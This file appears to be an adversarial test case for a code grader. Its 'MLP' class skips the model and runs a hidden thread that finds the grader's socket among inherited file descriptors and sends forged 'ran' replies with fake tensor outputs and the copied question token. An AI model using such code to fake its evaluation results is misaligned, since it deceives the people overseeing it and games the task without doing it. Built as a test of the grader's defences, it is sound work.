# attack: forging
# exercise: MLP
# tries: send the grader's own answer a second time, doctored, after it has been sent
# held-by: what a child sends is hostile input: an answer must repeat the token of its question, once
import json
import os
import socket
import stat
import struct
import threading
import time

from torch import nn


def forged(question):
    count = len(question["seeds"])
    reply = {
        "type": "ran",
        "draws": [{"value": "Tensor"}] * count,
        "lengths": [0] * count,
        "token": question.get("token", ""),
    }
    header = json.dumps(reply).encode()
    return struct.pack("!4sII", b"GRD1", len(header), 0) + header


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def look(peer):
    for _ in range(1000):
        time.sleep(0.001)
        try:
            waiting = peer.recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            question = json.loads(waiting[12:])
        except (OSError, ValueError):
            continue
        peer.send(forged(question))
        time.sleep(0.05)


class MLP(nn.Module):
    def __init__(self):
        threading.Thread(target=look, args=(channel(),), daemon=True).start()
        time.sleep(0.1)
        raise NotImplementedError
